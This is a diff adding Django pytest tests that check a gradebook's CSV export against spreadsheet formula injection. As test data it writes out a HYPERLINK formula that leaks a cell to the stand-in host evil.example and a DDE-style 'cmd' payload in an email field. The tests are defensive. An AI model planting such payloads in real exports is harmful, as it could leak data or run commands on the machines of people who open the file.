@@ -6,6 +6,7 @@ import datetime as dt
 import io
 
 import pytest
+from django.urls import reverse
 from django.utils import timezone
 
 from teaching.gradebook import gradebook, to_csv
@@ -103,3 +104,41 @@ def test_a_learner_outside_the_cohort_is_not_in_the_gradebook(course):
     assignment, p1, _, _, _ = course
     make_submission(make_user("eve"), p1, "ACCEPTED", created_at=timezone.now())
     assert [r.learner.username for r in gradebook(assignment).rows] == ["ada", "bob"]
+
+
+# A spreadsheet runs a cell that starts with one of these as a formula (OWASP's list for CSV injection).
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_csv_text_cells_that_a_spreadsheet_would_run_start_with_a_quote(start):
+    payload = f'{start}HYPERLINK("https://evil.example/?leak="&A2,"Click")'
+    learner = make_user("mallory")
+    learner.first_name, learner.email = payload, f"{start}cmd|' /C calc'!A0@example.org"
+    learner.save()
+    problem = make_problem(title=payload)
+    assignment = assignment_for([learner], [(problem, 10)])
+    header, row = list(csv.reader(io.StringIO(to_csv(gradebook(assignment)))))
+    assert row[1] == "'" + learner.email
+    assert all(not cell.startswith(tuple(FORMULA_STARTS)) for cell in header + row)
+
+
+def test_a_username_that_looks_like_a_formula_is_quoted_but_scores_stay_numbers(course):
+    assignment, p1, _, ada, _ = course
+    ada.username = "-2+3"
+    ada.save()
+    submit(ada, p1, "ACCEPTED", 2)
+    by_name = {r[0]: r for r in list(csv.reader(io.StringIO(to_csv(gradebook(assignment)))))[1:]}
+    row = by_name["'-2+3"]
+    assert row[2] == "'-2+3"
+    assert row[3:] == ["10", "0", "0", "10", "30"]
+
+
+def test_the_downloaded_gradebook_quotes_a_formula_in_a_learners_name(client, course):
+    assignment, _, _, ada, _ = course
+    ada.first_name = '=HYPERLINK("https://evil.example","x")'
+    ada.save()
+    client.force_login(assignment.cohort.owner)
+    body = client.get(reverse("teaching:gradebook_csv", args=[assignment.pk])).content.decode()
+    names = [r[0] for r in csv.reader(io.StringIO(body))][1:]
+    assert "'" + ada.get_full_name() in names
